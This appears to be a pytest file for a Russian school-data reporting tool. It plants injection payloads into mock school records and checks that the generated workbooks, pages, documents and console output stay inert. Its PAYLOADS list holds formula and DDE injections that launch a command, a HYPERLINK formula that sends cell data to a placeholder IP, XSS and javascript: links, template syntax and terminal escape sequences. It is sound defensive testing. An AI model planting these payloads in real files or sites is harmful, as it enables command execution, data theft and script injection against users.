"""Whatever a school writes stays text: no formula, no markup, no escape reaches any output."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile
from typing import TYPE_CHECKING

import openpyxl
import pytest
from making import books

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

SCRIPTED = "<script>alert(1)</script><img src=x onerror=alert(2)>"
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://198.51.100.1/?"&A1,"открыть")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1＋1",  # noqa: RUF001 - full-width signs, which some spreadsheets take for their own
    "＋1",  # noqa: RUF001 - as above
    "－1",  # noqa: RUF001 - as above
    "＠SUM(1)",  # noqa: RUF001 - as above
    '"=1+1"',
    "';=1+1",
    "|=1+1",
    "%0A=1+1",
    "{=1+1}",
    '=DDE("cmd";"/C calc";"!A0")',
    SCRIPTED,
    "[ссылка](javascript:alert(1))",
    "![x](https://198.51.100.1/x.png)",
    "{{ 7*7 }} {% for x in y %}",
    "\x1b[2J\x1b]0;взлом\x07",
    "СОШ\u202e1",
    "_x0041_ _x000D_",
    "&lt;b&gt; &amp; ]]> <!--",
)
COMMANDS = (
    ("compute", "returns", "--year", "2022"),
    ("status", "returns", "--year", "2022"),
    ("errors", "returns", "--year", "2022"),
    ("report", "--year", "2022", "--kind", "all"),
    ("report", "--year", "2022", "--edition", "public"),
    ("recommend", "--year", "2022"),
    ("explain", "A-8", "returns", "--year", "2022", "--out", "explained.xlsx"),
)
ENDED = "ended with "
SCRIPT = f"""
from pedmonitor.cli.app import main
for arguments in {COMMANDS!r}:
    print("{ENDED}" + str(main(list(arguments))))
"""


def plant(folder: Path) -> None:
    """Put every payload into names, subjects, titles, headings, sheets and comments."""
    heading = ["Код", "Краткое наименование", "Полное наименование", "Тип", "Местность"]
    names = [
        [str(n), f"СОШ № {n} {text}", f"МБОУ «СОШ № {n}» {text}", "школа", "село"]
        for n, text in enumerate(PAYLOADS, start=1)
    ]
    books.delimited(folder / "организации.csv", [heading, *names])
    people = [["ФИО", "Дата рождения", "Должность", "Предмет", "Примечание", "=1+1", "@x"]]
    people += [
        [f"Незнамова Анна {'Б' * n}овна", "05.03.1980", text, text, text, text, text]
        for n, text in enumerate(PAYLOADS)
    ]
    contests = [["ФИО", "Название конкурса", "Уровень", "Результат", "Дата"]]
    contests += [
        ["Незнамова Анна Бовна", f"{text} {n}", text, "победитель", "05.03.2022"]
        for n, text in enumerate(PAYLOADS)
    ]
    contests += [
        ["Незнамова Анна Бовна", text, "район", "победитель", "05.03.2022"] for text in PAYLOADS
    ]
    for n in range(1, 4):
        books.delimited(folder / f"СОШ {n} кадры 2022.csv", people)
        books.delimited(folder / f"СОШ {n} конкурсы 2022.csv", contests)
    written = [[_legal(cell) for cell in row] for row in people]
    books.xlsx(folder / "СОШ 4 кадры 2022.xlsx", {"=cmd|calc": written, "@SUM": written})


def _legal(text: str) -> str:
    """Leave out what no workbook can hold."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace after every command that writes."""
    path = tmp_path_factory.mktemp("injection")
    plant(path / "returns")
    (path / "pedmonitor.toml").write_text('profiles = ["amursk-2021"]', encoding="utf-8")
    done = subprocess.run(  # noqa: S603 - our own command
        [sys.executable, "-c", SCRIPT],
        cwd=path,
        env={**os.environ, "PYTHONUTF8": "1"},
        capture_output=True,
        check=False,
        timeout=400,
    )
    (path / "screen.txt").write_bytes(done.stdout + done.stderr)
    ended = [x.removeprefix(ENDED) for x in done.stdout.decode().split("\n") if x.startswith(ENDED)]
    assert len(ended) == len(COMMANDS), done.stderr.decode()[-2000:]
    assert set(ended) <= {"0", "1"}, done.stderr.decode()[-2000:]
    return path


def outputs(place: Path, suffix: str) -> list[Path]:
    found = [p for p in place.rglob(f"*{suffix}") if p.relative_to(place).parts[0] != "returns"]
    assert found, suffix
    return found


def cells(path: Path) -> Iterator[tuple[str, object, str]]:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield f"{path.name}!{sheet.title}!{cell.coordinate}", cell.value, cell.data_type


def test_no_cell_of_a_workbook_is_a_formula_of_a_school(place: Path) -> None:
    signs = ("cmd", "HYPERLINK", "DDE", "1+1", "SUM(1")
    for path in outputs(place, ".xlsx"):
        for where, value, kind in cells(path):
            if kind == "f":
                assert not any(sign in str(value) for sign in signs), (where, value)


def test_workbooks_hold_no_links_macros_or_connections(place: Path) -> None:
    for path in outputs(place, ".xlsx"):
        with zipfile.ZipFile(path) as archive:
            names = archive.namelist()
            assert not [n for n in names if re.search(r"externalLink|vba|connections|embed", n)], (
                path
            )
            for name in names:
                if name.endswith(".rels"):
                    assert b"198.51.100.1" not in archive.read(name), (path, name)


def test_pages_hold_no_markup_of_a_school(place: Path) -> None:
    for path in outputs(place, ".html"):
        text = path.read_text(encoding="utf-8")
        assert "<script>alert" not in text, path
        assert "<img src=x" not in text, path
        assert 'href="javascript' not in text, path


def test_markdown_holds_no_live_link_or_markup_of_a_school(place: Path) -> None:
    for path in outputs(place, ".md"):
        text = path.read_text(encoding="utf-8")
        assert "](javascript" not in re.sub(r"\\.", "", text), path
        assert "![x](https" not in re.sub(r"\\.", "", text), path
        assert not re.search(r"(?<!\\)<script", text), path


def test_documents_open_and_hold_text_alone(place: Path) -> None:
    import docx

    for path in outputs(place, ".docx"):
        docx.Document(io.BytesIO(path.read_bytes()))
        with zipfile.ZipFile(path) as archive:
            body = archive.read("word/document.xml").decode()
            assert "7*7" in body or "{{" not in body  # shown as written, or not at all
            for name in archive.namelist():
                if name.endswith(".rels"):
                    assert b"198.51.100.1" not in archive.read(name), (path, name)


def test_json_is_json_and_the_screen_keeps_its_cursor(place: Path) -> None:
    for path in outputs(place, ".json"):
        json.loads(path.read_text(encoding="utf-8"))
    screen = (place / "screen.txt").read_text(encoding="utf-8")
    assert "\x1b" not in screen
    assert "\u202e" not in screen
